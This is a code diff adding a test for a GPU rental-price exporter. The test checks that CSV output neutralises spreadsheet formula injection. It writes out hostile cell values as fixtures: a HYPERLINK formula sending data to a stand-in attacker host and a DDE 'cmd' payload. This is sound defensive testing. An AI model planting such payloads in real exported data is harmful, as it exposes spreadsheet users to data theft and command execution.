@@ -155,3 +155,26 @@ def test_the_rental_files_say_each_prices_tier_age_and_support_as_rent_json_does
     with open(paths["rental_csv"], newline="") as fh:
         assert {"price_tier", "price_age_days", "spot_tier", "spot_age_days", "framework_support"} <= set(
             csv.DictReader(fh).fieldnames)
+
+
+def test_no_published_csv_cell_is_a_spreadsheet_formula(tmp_path):
+    """A provider or GPU name someone else wrote ("=HYPERLINK(...)", RunPod's displayName, an FSDL
+    provider) reaches every CSV as text a spreadsheet shows, never as a formula it runs."""
+    from rental_fixtures import JAN_B, load_offers, offer
+
+    hostile = '=HYPERLINK("http://attacker.invalid/?d="&A1,"cheap")'
+    con = make_rental_database()
+    load_offers(con, [offer("cloud-c", hostile, "@SUM(1+1)", "GeForce RTX 3090", JAN_B, per_hour=0.15,
+                            instance="+cmd|' /C calc'!A0", region="-2+3"),
+                      offer("cloud-c", "\t=1+1", "RTX 4090", "GeForce RTX 4090", JAN_B, per_hour=0.40)], "cloud-c")
+    paths = export_all(con, tmp_path, generated_at=GENERATED)
+    published = [paths["csv"], paths["rental_csv"], paths["rent_vs_buy_csv"]]
+    cells = []
+    for path in published:
+        with open(path, newline="", encoding="utf-8") as fh:
+            cells += [cell for row in csv.reader(fh) for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells)  # the hostile name is shown...
+    formulas = [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r"))
+                or (cell.startswith("-") and not cell.lstrip("-").replace(".", "", 1).isdigit())]
+    assert formulas == []  # ...and no cell of any CSV starts a formula
+    assert f"'{hostile}" in cells  # shown as the text it is, behind the apostrophe spreadsheets read as "text"
